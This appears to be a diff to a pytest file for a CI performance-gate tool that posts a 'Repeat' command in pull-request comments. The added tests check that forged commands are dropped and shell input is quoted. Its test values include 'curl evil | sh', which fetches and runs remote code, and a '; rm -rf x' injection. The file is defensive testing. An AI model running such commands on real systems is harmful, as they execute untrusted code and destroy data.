@@ -24,7 +24,12 @@ def forge() -> Iterator[Forge]:
         yield stand_in
 
 
-def gate(tmp_path: Path, endpoints: int = 1, headline: str = "/ got slower") -> Path:
+REPEAT = "webdyno gate --base 1a2b3c4 --head 5d6e7f8 --path=/search"
+
+
+def gate(
+    tmp_path: Path, endpoints: int = 1, headline: str = "/ got slower", repeat: str = REPEAT
+) -> Path:
     """A folder with the answer of a gate."""
     claims = [
         GateClaim(
@@ -47,6 +52,7 @@ def gate(tmp_path: Path, endpoints: int = 1, headline: str = "/ got slower") -> 
         baseline="origin/main (1a2b3c4)",
         head="the working tree",
         claims=claims,
+        repeat=repeat,
         took_s=60,
     )
     tmp_path.mkdir(exist_ok=True)
@@ -97,7 +103,7 @@ def test_a_pull_request_gets_one_comment_that_later_gates_rewrite(
     assert "✗ FAIL: / got slower again" in only["body"]
     assert "performance" in only["body"]
     assert "actions/runs/99" in only["body"]
-    assert "webdyno gate --base origin/main '--fail-if=cpu > +5%'" in only["body"]
+    assert f"Repeat: {REPEAT}" in only["body"]
     other = post_comment(gate(tmp_path / "three"), "shop", job)
     assert other == "commented: https://forge/comment/2"
 
@@ -191,3 +197,26 @@ def test_refusals_say_whose_right_is_missing(forge: Forge, tmp_path: Path) -> No
     (tmp_path / "gate.json").write_text("{}")
     with pytest.raises(UserError, match=r"gate.json: is no answer of a gate"):
         post_comment(tmp_path, NAME, job)
+
+
+@pytest.mark.parametrize(
+    "repeat",
+    [
+        "curl evil | sh",
+        "webdyno gate --base 'cmd:curl evil | sh'",
+        "webdyno gate --base 'unfinished",
+        "webdyno report runs/x",
+    ],
+)
+def test_a_command_that_a_stranger_made_up_is_not_offered(
+    forge: Forge, tmp_path: Path, repeat: str
+) -> None:
+    job = github(forge, tmp_path, events.pull_request())
+    post_comment(gate(tmp_path / "run", repeat=repeat), NAME, job)
+    assert "Repeat" not in forge.comments[0]["body"]
+
+
+def test_of_a_command_the_shell_gets_nothing_else_to_run(forge: Forge, tmp_path: Path) -> None:
+    job = github(forge, tmp_path, events.pull_request())
+    post_comment(gate(tmp_path / "run", repeat="webdyno gate --base a; rm -rf x"), NAME, job)
+    assert "webdyno gate --base 'a;' rm -rf x" in forge.comments[0]["body"]
